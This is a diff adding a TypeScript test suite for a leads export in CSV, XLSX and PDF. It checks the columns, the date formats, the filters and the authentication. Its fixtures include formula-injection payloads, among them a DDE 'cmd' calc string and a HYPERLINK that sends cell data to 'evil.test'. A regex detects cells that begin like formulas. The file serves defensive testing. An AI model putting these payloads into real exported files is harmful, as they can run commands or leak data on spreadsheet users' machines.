@@ -1,0 +1,241 @@
+import { randomUUID } from 'node:crypto'
+import { api, type Lead, leadStatuses } from '@bong-bari/contract'
+import { createLead } from '@bong-bari/table'
+import { parse } from 'csv-parse/sync'
+import readExcel from 'read-excel-file/node'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { refusalOf, startApi } from '../../testing/start-api.ts'
+
+const { leads: route } = api.exports
+const csv = { format: 'csv' } as const
+const at = (minutes: number) => new Date(Date.UTC(2026, 10, 20, 18, 30 + minutes)).toISOString()
+
+const leadOf = (minutes: number, changes: Partial<Lead> = {}): Lead => ({
+  id: randomUUID(),
+  name: 'রিয়া সেন',
+  email: 'riya@example.com',
+  phone: '+91 9830012345',
+  company: 'উজ্জ্বল ঘর',
+  message: null,
+  status: 'submitted',
+  opened: false,
+  openedAt: null,
+  leadStatus: 'new',
+  followUpNotes: null,
+  createdAt: at(minutes),
+  ...changes,
+})
+
+/** What OWASP lists, and what known exports were caught by. */
+const formulas = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '  =1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.test?x="&A1,"click")',
+  '＝1+1',
+  '＋1',
+  '+91 98300=1+1',
+]
+
+const texts = [
+  'ক্ষ জ্ঞ শ্রী স্ত্রী উজ্জ্বল কর্তৃপক্ষ র‍্যাব ব্র্যান্ড দৃষ্টি ত্র্যহস্পর্শ',
+  'a "quoted", with; commas',
+  'lines\nand\r\nmore\rlines',
+  'literal _x0041_ and \u0001 control',
+  '👨‍👩‍👧 عربي  two  spaces ',
+  '0012345',
+  "'apostrophe",
+]
+
+const stored: Lead[] = [
+  ...[...formulas, ...texts].map((message, index) =>
+    leadOf(index, {
+      message,
+      followUpNotes: message,
+      leadStatus: leadStatuses[index % 5] ?? 'new',
+      ...(index % 2 && { opened: true, openedAt: at(index + 60) }),
+    }),
+  ),
+  leadOf(100, { email: null, name: '=1+1', company: '@home' }),
+  leadOf(101, { phone: null }),
+]
+const newestFirst = [...stored].reverse()
+
+let site: Awaited<ReturnType<typeof startApi>>
+let admin: Awaited<ReturnType<typeof site.newAdmin>>
+beforeAll(async () => {
+  site = await startApi()
+  for (const lead of stored) await createLead({ ...lead, spam: false })
+  await createLead({ ...leadOf(200, { name: 'spam' }), spam: true })
+  admin = await site.newAdmin()
+})
+afterAll(() => site.stop())
+
+const indiaTime = (text: string | null) =>
+  text === null
+    ? null
+    : new Date(Date.parse(text) + 19_800_000).toISOString().slice(0, 16).replace('T', ' ')
+
+/** A sheet counts in fractions of a day, which come back as a hair less. */
+const minuteOf = (cell: unknown) =>
+  cell instanceof Date
+    ? new Date(cell.getTime() + 1).toISOString().slice(0, 16).replace('T', ' ')
+    : null
+
+const idsIn = async (query: object) => {
+  const { blob } = await admin.call(route, { query: { format: 'csv', ...query } })
+  const [, ...rows] = parse(await blob.text(), { bom: true })
+  return rows.map(([id]: string[]) => id)
+}
+
+test('LEAD-09 API-08 the CSV has a BOM, the twelve columns and every lead, newest first', async () => {
+  const { blob } = await admin.call(route, { query: { format: 'csv' } })
+  const bytes = Buffer.from(await blob.arrayBuffer())
+  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
+  const [header, ...rows] = parse(bytes, { bom: true }) as string[][]
+  expect(header).toEqual([
+    'ID',
+    'Name',
+    'Email',
+    'Phone',
+    'Company',
+    'Message',
+    'Status',
+    'Lead Status',
+    'Opened',
+    'Created Date',
+    'Opened Date',
+    'Follow-up Notes',
+  ])
+  // The one change: an apostrophe before what could start a formula.
+  const same = (written: string | undefined, kept: string | null) =>
+    expect([kept ?? '', `'${kept}`]).toContain(written)
+  expect(rows).toHaveLength(newestFirst.length)
+  for (const [index, lead] of newestFirst.entries()) {
+    const [id, name, email, phone, company, message, ...others] = rows[index] ?? []
+    expect([id, email, phone]).toEqual([lead.id, lead.email ?? '', lead.phone ?? ''])
+    same(name, lead.name)
+    same(company, lead.company)
+    same(message, lead.message)
+    expect(others.slice(0, 5)).toEqual([
+      'submitted',
+      lead.leadStatus,
+      lead.opened ? 'Yes' : 'No',
+      indiaTime(lead.createdAt),
+      indiaTime(lead.openedAt) ?? '',
+    ])
+    same(others[5], lead.followUpNotes)
+  }
+})
+
+test('no cell of the CSV begins like a formula but a phone, and harmless texts are untouched', async () => {
+  const { blob } = await admin.call(route, { query: { format: 'csv' } })
+  const [, ...rows] = parse(await blob.text(), { bom: true }) as string[][]
+  for (const row of rows)
+    for (const [column, cell] of row.entries())
+      if (column !== 3) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/)
+  const messages = rows.map((row) => row[5])
+  expect(messages).toEqual(expect.arrayContaining(texts))
+  expect(messages).toEqual(expect.arrayContaining(formulas.map((formula) => `'${formula}`)))
+})
+
+test('the workbook reads back as it was stored: texts inert and whole, dates as dates', async () => {
+  const { blob } = await admin.call(route, { query: { format: 'xlsx' } })
+  const [sheet] = await readExcel(Buffer.from(await blob.arrayBuffer()), { trim: false })
+  const [header, ...rows] = sheet?.data ?? []
+  expect(header?.at(-1)).toBe('Follow-up Notes')
+  expect(rows).toHaveLength(newestFirst.length)
+  for (const [index, lead] of newestFirst.entries()) {
+    const row = rows[index] ?? []
+    expect(row.slice(0, 2)).toEqual([lead.id, lead.name])
+    expect(row.slice(2, 9)).toEqual([
+      lead.email,
+      lead.phone,
+      lead.company,
+      lead.message,
+      'submitted',
+      lead.leadStatus,
+      lead.opened ? 'Yes' : 'No',
+    ])
+    expect(minuteOf(row[9])).toBe(indiaTime(lead.createdAt))
+    expect(minuteOf(row[10])).toBe(indiaTime(lead.openedAt))
+    expect(row[11]).toBe(lead.followUpNotes)
+  }
+})
+
+test('the workbook has a frozen, filtered header and holds no formula', async () => {
+  const { default: exceljs } = await import('exceljs')
+  const { blob } = await admin.call(route, { query: { format: 'xlsx' } })
+  const workbook = new exceljs.Workbook()
+  await workbook.xlsx.load(await blob.arrayBuffer())
+  const sheet = workbook.getWorksheet('Leads')
+  expect(sheet?.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
+  expect(sheet?.autoFilter).toBe(`A1:L${newestFirst.length + 1}`)
+  sheet?.eachRow((row, number) =>
+    row.eachCell((cell, column) => {
+      expect(cell.formula).toBeUndefined()
+      if (number > 1) expect(cell.numFmt).toBe([10, 11].includes(column) ? 'yyyy-mm-dd hh:mm' : '@')
+    }),
+  )
+})
+
+test('the filters and repeated ids choose, together too, and spam is in no export', async () => {
+  expect(await idsIn({})).toEqual(newestFirst.map(({ id }) => id))
+  for (const leadStatus of leadStatuses)
+    for (const opened of ['true', 'false'] as const) {
+      const held = newestFirst.filter(
+        (lead) => lead.leadStatus === leadStatus && String(lead.opened) === opened,
+      )
+      expect(await idsIn({ leadStatus, opened })).toEqual(held.map(({ id }) => id))
+    }
+  const some = newestFirst.slice(3, 8)
+  const ids = [...some.map(({ id }) => id), randomUUID(), some[0]?.id ?? '']
+  expect(await idsIn({ ids })).toEqual(some.map(({ id }) => id))
+  const opened = some.filter((lead) => lead.opened).map(({ id }) => id)
+  expect(await idsIn({ ids, opened: 'true' })).toEqual(opened)
+  expect(await idsIn({ ids: [randomUUID()] })).toEqual([])
+})
+
+test.each([
+  ['csv', 'text/csv; charset=utf-8'],
+  ['xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
+  ['pdf', 'application/pdf'],
+] as const)(
+  'API-32 a %s is an attachment named by the day in Kolkata and kept by no cache',
+  async (format, type) => {
+    // 18:31 UTC is past midnight in Kolkata.
+    site.clock.now = Date.UTC(2026, 11, 31, 18, 31)
+    const { session } = await site.newAdmin()
+    const headers = { authorization: `Bearer ${session.sessionId}` }
+    const response = await site.fetcher()(`${route.path}?format=${format}`, { headers })
+    expect(response.status).toBe(200)
+    expect(response.headers.get('content-type')).toBe(type)
+    expect(response.headers.get('cache-control')).toBe('no-store')
+    expect(response.headers.get('content-disposition')).toBe(
+      `attachment; filename="leads-export-2027-01-01.${format}"`,
+    )
+  },
+)
+
+test('an export needs a session, a known format and filters that exist', async () => {
+  admin = await site.newAdmin()
+  const anonymous = site.client()(route, { query: { format: 'csv' } })
+  expect(await refusalOf(anonymous)).toMatchObject({ status: 401, code: 'session-required' })
+  for (const [field, query] of [
+    ['format', { format: undefined }],
+    ['format', { format: 'docx' }],
+    ['leadStatus', { format: 'csv', leadStatus: 'lukewarm' }],
+    ['opened', { format: 'csv', opened: 'yes' }],
+    ['ids', { format: 'csv', ids: Array.from({ length: 1001 }, () => 'x') }],
+  ] as const) {
+    const asGiven: object = query
+    const { fields } = await refusalOf(admin.call(route, { query: { ...csv, ...asGiven } }))
+    expect(fields).toHaveProperty(field)
+  }
+})
